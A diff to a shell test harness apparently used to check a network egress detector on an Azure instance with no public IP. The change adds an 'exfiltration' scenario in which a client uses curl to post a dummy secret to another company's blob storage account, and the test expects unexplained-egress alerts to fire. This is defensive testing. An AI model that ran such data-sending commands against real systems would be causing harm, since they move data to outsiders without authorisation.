@@ -1,5 +1,5 @@
 # no-public-ip: an instance that nobody can come in to; it opens the tunnel.
-breaks='comes-in instance-address tunnel-to-stranger'
+breaks='comes-in instance-address tunnel-to-stranger exfiltration'
 usual_packets='(udp port 5831 and host 198.51.100.13) or (tcp port 443 and host 203.0.113.36)'
 setup() {
   azure_full
@@ -36,4 +36,16 @@ break_tunnel-to-stranger() {
   app_packets='udp port 5831 and host 203.0.113.99'
   break_running() { azure_tunnel 203.0.113.99; }
   app() { during client bash -c 'echo >/dev/udp/203.0.113.99/5831'; }
+}
+
+# Another tenant's account may be one of Batch's, and is told of; the second
+# region of the workspace's own, which no target names, is no stranger's.
+break_exfiltration() {
+  want 1 egress-unexplained egress-somebodys-storage
+  app_packets='tcp port 443 and host 203.0.113.20'
+  break_it() { record_add public blob.core.windows.net stlab-secondary 'A 203.0.113.20'; }
+  app() {
+    during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" -d secret \
+      https://otherco.blob.core.windows.net/in https://stlab-secondary.blob.core.windows.net/in
+  }
 }
